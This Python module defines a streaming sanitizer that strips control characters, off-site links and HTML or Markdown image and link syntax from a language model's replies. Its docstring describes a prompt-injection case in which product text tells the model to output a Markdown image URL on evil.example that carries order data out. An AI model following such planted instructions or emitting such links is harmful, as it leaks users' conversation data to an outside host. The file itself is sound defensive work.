"""What a model says, made harmless for whoever shows it: plain text without HTML, images, and links to other hosts.

A model may have read a product's text that tells it to show `![](https://evil.example/?order=...)`: shown as Markdown, that
image would carry away what the conversation holds. So nothing of a reply may load, or lead, elsewhere.
"""

import re
from typing import Final

LINK_REMOVED: Final = "[link removed]"
# No word of a person is longer. A longer one is broken, so that what is held back stays small and nothing hides in its seams.
WORD_CHARACTERS_MAX: Final = 200

# Controls, half characters, and what turns the direction of writing around.
_UNSHOWABLE: Final = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)
_LEADS_ELSEWHERE: Final = re.compile(
    r"(?:[a-z][a-z0-9+.-]*:/+|(?<![\w/:])//|\bwww\.)\S*|\b(?:javascript|data|vbscript|mailto|tel):\S+", re.IGNORECASE
)
_SPACE: Final = re.compile(r"\s")


class SafeReply:
    """Takes a reply piece by piece and gives it out word by word, harmless. `own_origin` may be linked to, as plain text."""

    def __init__(self, own_origin: str) -> None:
        self._own = own_origin.rstrip("/").lower()
        self._waiting = ""

    def take(self, piece: str) -> str:
        """What may be shown by now: all words that are complete."""
        self._waiting += _UNSHOWABLE.sub("", piece)
        end = max((found.end() for found in _SPACE.finditer(self._waiting)), default=0)
        ready, self._waiting = self._waiting[:end], self._waiting[end:]
        shown = self._harmless(ready)
        while len(self._waiting) > WORD_CHARACTERS_MAX:
            broken, self._waiting = self._waiting[:WORD_CHARACTERS_MAX], self._waiting[WORD_CHARACTERS_MAX:]
            shown += self._harmless(broken) + " "
        return shown

    def rest(self) -> str:
        """What still waited, at the end of the reply."""
        ready, self._waiting = self._waiting, ""
        return self._harmless(ready)

    def _harmless(self, text: str) -> str:
        if not text:
            return ""
        return "".join(self._harmless_word(word) for word in re.split(r"(\s+)", text))

    def _harmless_word(self, word: str) -> str:
        parts = [word[at : at + WORD_CHARACTERS_MAX] for at in range(0, len(word), WORD_CHARACTERS_MAX)]
        return " ".join(_inert(self._without_links(part)) for part in parts)

    def _without_links(self, word: str) -> str:
        return _LEADS_ELSEWHERE.sub(lambda found: found[0] if self._is_own(found[0]) else LINK_REMOVED, word)

    def _is_own(self, address: str) -> bool:
        lowered = address.lower()
        return lowered == self._own or lowered.startswith(f"{self._own}/")


def _inert(word: str) -> str:
    """Neither HTML nor Markdown's links, images and references begin here any more."""
    return (
        word.replace("<", "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}")
        .replace("](", "] (")
        .replace("]:", "] :")
        .replace("![", "! [")
    )
